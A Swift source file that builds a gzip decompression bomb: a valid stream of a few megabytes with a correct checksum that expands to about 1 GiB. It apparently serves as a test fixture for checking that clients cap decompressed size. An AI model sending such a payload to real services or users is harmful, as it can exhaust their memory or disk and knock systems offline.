// A gzip stream that grows to 1 GiB: one literal space, then the longest back reference again and again. Made by hand because it is a
// few lines, and no compressor would be asked for it. Ratio about 159: 13 bits stand for 258 bytes.

/// Makes the bomb.
enum GzipBomb {
    /// A complete gzip member that expands to at least `expandedBytes` spaces. The checksum is right, so that a client without a limit
    /// does not get away by an error at the end.
    static func make(expandedBytes: Int = 1 << 30) -> [UInt8] {
        let matches = (expandedBytes + 257) / 258
        var bits = BitStream()
        bits.bytes = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]
        bits.bytes.reserveCapacity(matches * 13 / 8 + 64)
        bits.put(0b011, count: 3)
        bits.put(reversed(0x30 + 32, count: 8), count: 8)
        // Length 258 is code 285 (11000101), distance 1 is code 0 of five bits.
        let match = reversed(0b1100_0101, count: 8)
        for _ in 0..<matches { bits.put(match, count: 13) }
        bits.put(0, count: 7)
        bits.flush()
        let size = UInt32(truncatingIfNeeded: 1 + matches * 258)
        for value in [crc(ofSpaces: 1 + matches * 258), size] {
            for shift in [0, 8, 16, 24] { bits.bytes.append(UInt8(truncatingIfNeeded: value >> UInt32(shift))) }
        }
        return bits.bytes
    }

    private struct BitStream {
        var bytes: [UInt8] = []
        private var pending: UInt32 = 0
        private var count = 0
        mutating func put(_ value: UInt32, count more: Int) {
            pending |= value << UInt32(count)
            count += more
            while count >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: pending))
                pending >>= 8
                count -= 8
            }
        }
        mutating func flush() { if count > 0 { put(0, count: 8 - count) } }
    }

    private static func reversed(_ value: UInt32, count: Int) -> UInt32 {
        (0..<count).reduce(0) { $0 | (value >> UInt32($1) & 1) << UInt32(count - 1 - $1) }
    }

    // CRC-32 of n equal bytes: one byte's effect on the register is an affine map, and maps are squared.
    private static func crc(ofSpaces count: Int) -> UInt32 {
        func step(_ register: UInt32) -> UInt32 {
            var register = register ^ 32
            for _ in 0..<8 { register = register & 1 == 1 ? (register >> 1) ^ 0xedb8_8320 : register >> 1 }
            return register
        }
        func apply(_ columns: [UInt32], _ value: UInt32) -> UInt32 {
            (0..<32).reduce(0) { value >> UInt32($1) & 1 == 1 ? $0 ^ columns[$1] : $0 }
        }
        var constant = step(0)
        var columns = (0..<32).map { step(1 << UInt32($0)) ^ constant }
        var (register, rest): (UInt32, Int) = (0xffff_ffff, count)
        while rest > 0 {
            if rest & 1 == 1 { register = apply(columns, register) ^ constant }
            constant = apply(columns, constant) ^ constant
            columns = columns.map { apply(columns, $0) }
            rest >>= 1
        }
        return register ^ 0xffff_ffff
    }
}
